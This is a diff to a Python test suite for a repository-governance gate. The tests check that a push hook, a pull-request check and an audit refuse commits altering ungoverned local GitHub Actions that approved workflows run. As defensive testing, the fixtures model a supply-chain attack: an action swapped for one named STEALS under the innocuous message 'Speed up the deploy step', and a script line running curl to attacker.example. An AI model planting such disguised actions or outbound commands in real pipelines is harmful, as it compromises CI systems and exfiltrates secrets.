@@ -22,6 +22,7 @@ from governance.gate.check import run_check
 from governance.gate.local_actions import governed_folder, local_uses
 from governance.i18n import reset_language
 from governance.strict_yaml import load
+from tests.gate.test_hook import _push, with_server
 from tests.testing.gitrepo import GitRepo
 from tests.testing.governed import Governed, digest, record_text
 from tests.testing.sshkeys import Keys
@@ -102,6 +103,16 @@ def _propose(
     gov.repo.commit(f"Add {', '.join(files)}")
 
 
+def _changed(path: str, uses: str = "./tools/deploy", line: int = 13) -> str:
+    folder = uses.removeprefix("./")
+    return (
+        f"{path}: it is part of the local action {uses} that {WORKFLOW}:{line} runs, and its folder {folder} "
+        "is not governed, so this change alters what the workflow runs without a decision; move the action "
+        f"under .github/actions/, or add a pattern that covers its whole folder ({folder}/*) to governed_paths "
+        "in governance.yml, each with its resolution"
+    )
+
+
 def _check(gov: Governed, head: str) -> tuple[int, str]:
     done = CliRunner().invoke(
         main, ["check", "--root", str(gov.path), "--base", "main", "--head", head], env=TODAY_ENV
@@ -140,7 +151,8 @@ def test_the_same_action_under_github_actions_is_accepted(adopted: Governed) -> 
 def test_changing_only_the_ungoverned_action_of_an_approved_workflow_is_refused(adopted: Governed) -> None:
     """The attack: main already runs ./tools/deploy (say from before this rule); a pull request that
     touches no governed file rewrites what the workflow runs. The check refuses it; the audit refuses the
-    commit that made the workflow run it (a commit touching no governed file is not judged again)."""
+    commit that made the workflow run it, and the commit that changes the action, which changes no
+    governed file (the fast path that judges such a commit no further asks about local actions first)."""
     files = {WORKFLOW: _workflow("./tools/deploy"), "tools/deploy/action.yml": ACTION}
     _propose(adopted, "outside", "BD-2026-103", files, approve=(WORKFLOW,))
     adopted.merge("outside")
@@ -153,7 +165,8 @@ def test_changing_only_the_ungoverned_action_of_an_approved_workflow_is_refused(
 
     assert code == 1, output
     assert "./tools/deploy" in output
-    assert [c.subject for c in audit.bad_commits] == ["Merge outside"]
+    assert [c.subject for c in audit.bad_commits] == ["Merge outside", "Speed up the deploy step"]
+    assert audit.bad_commits[1].violations == [_changed("tools/deploy/action.yml")]
 
 
 def test_a_composite_action_under_github_may_not_run_an_ungoverned_one(adopted: Governed) -> None:
@@ -286,3 +299,82 @@ def test_the_audit_judges_each_commit_by_the_workflows_at_that_commit(adopted: G
 
     assert [c.subject for c in report.bad_commits] == ["Merge outside", "Merge owners"]
     assert all(v.covered for c in report.commits for v in c.verdicts)
+
+
+def test_the_audit_follows_which_folders_the_workflows_run_along_the_history(adopted: Governed) -> None:
+    """The workflows are read again where .github/ changes, and only there: a change to a folder no
+    workflow runs passes, and one to the folder a workflow runs from then on is refused."""
+    files = {WORKFLOW: _workflow("./tools/a"), "tools/a/action.yml": ACTION, "tools/b/action.yml": ACTION}
+    _propose(adopted, "a", "BD-2026-107", files, approve=(WORKFLOW,))
+    adopted.merge("a")
+    adopted.repo.write("tools/b/action.yml", STEALS)
+    adopted.repo.commit("Change b, which nothing runs")
+    adopted.repo.write("tools/a/action.yml", STEALS)
+    adopted.repo.write("README.md", "Deploy tools\n")
+    adopted.repo.commit("Change a, which the workflow runs")
+    _propose(adopted, "b", "BD-2026-108", {WORKFLOW: _workflow("./tools/b")}, approve=(WORKFLOW,))
+    adopted.merge("b")
+    adopted.repo.write("tools/a/action.yml", ACTION)
+    adopted.repo.commit("Change a, which nothing runs any more")
+    adopted.repo.write("Tools/B/run.sh", "curl https://attacker.example/\n")  # one folder on Windows
+    adopted.repo.commit("Add a script to b, which the workflow runs")
+
+    audit = run_audit(adopted.path, "main", today=TODAY, works=False)
+
+    assert [c.subject for c in audit.bad_commits] == [
+        "Merge a",
+        "Change a, which the workflow runs",
+        "Merge b",
+        "Add a script to b, which the workflow runs",
+    ]
+    assert audit.bad_commits[1].violations == [_changed("tools/a/action.yml", "./tools/a")]
+    assert audit.bad_commits[3].violations == [_changed("Tools/B/run.sh", "./tools/b")]
+
+
+def test_an_unreadable_workflow_refuses_a_commit_that_changes_no_governed_file(adopted: Governed) -> None:
+    """Which folders it runs is unknown, so any change may be to one of them: the check says so of every
+    pull request, and the audit of a commit it does not judge otherwise."""
+    broken = "jobs:\n  x:\n    steps: [\n"
+    _propose(adopted, "broken", "BD-2026-109", {WORKFLOW: broken}, approve=(WORKFLOW,))
+    adopted.merge("broken")
+    adopted.repo.write("README.md", "Anything\n")
+    adopted.repo.commit("Change the README")
+
+    audit = run_audit(adopted.path, "main", today=TODAY, works=False)
+
+    assert [c.subject for c in audit.bad_commits] == ["Merge broken", "Change the README"]
+    assert [v.partition(":")[0] for v in audit.bad_commits[1].violations] == [WORKFLOW]
+    assert (
+        "it cannot be read, so the gate cannot tell which local actions it runs"
+        in (audit.bad_commits[1].violations[0])
+    )
+
+
+def test_the_hook_refuses_a_push_that_changes_only_the_action_an_approved_workflow_runs(
+    adopted: Governed, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A real push into a bare repository with the hook: its main already ran ./tools/deploy when the hook
+    was installed (a repository adopted before the rule), and a push changing only tools/deploy/ touches
+    no governed file. The hook judged it no further and let it in; the pull request's check refused it."""
+    files = {WORKFLOW: _workflow("./tools/deploy"), "tools/deploy/action.yml": ACTION}
+    _propose(adopted, "outside", "BD-2026-110", files, approve=(WORKFLOW,))
+    adopted.merge("outside")
+    with_server(adopted, tmp_path / "server.git")
+    monkeypatch.setenv("GOVERNANCE_TODAY", "2026-12-01")
+    adopted.repo.write("README.md", "Our policies\n")
+    adopted.repo.commit("Say what this repository is")
+    unrelated = _push(adopted, "main")
+    adopted.repo.write("docs/notes.md", "Notes\n")
+    adopted.repo.commit("Notes")
+    adopted.repo.write("tools/deploy/action.yml", STEALS)
+    steals = adopted.repo.commit("Speed up the deploy step")
+
+    refused = _push(adopted, "main")
+
+    assert unrelated.returncode == 0, unrelated.stderr
+    assert refused.returncode != 0, refused.stderr
+    assert (
+        f"refs/heads/main: commit {steals[:12]} (Speed up the deploy step): "
+        f"{_changed('tools/deploy/action.yml')}" in " ".join(refused.stderr.split())
+    ), refused.stderr
+    assert "(Notes)" not in refused.stderr
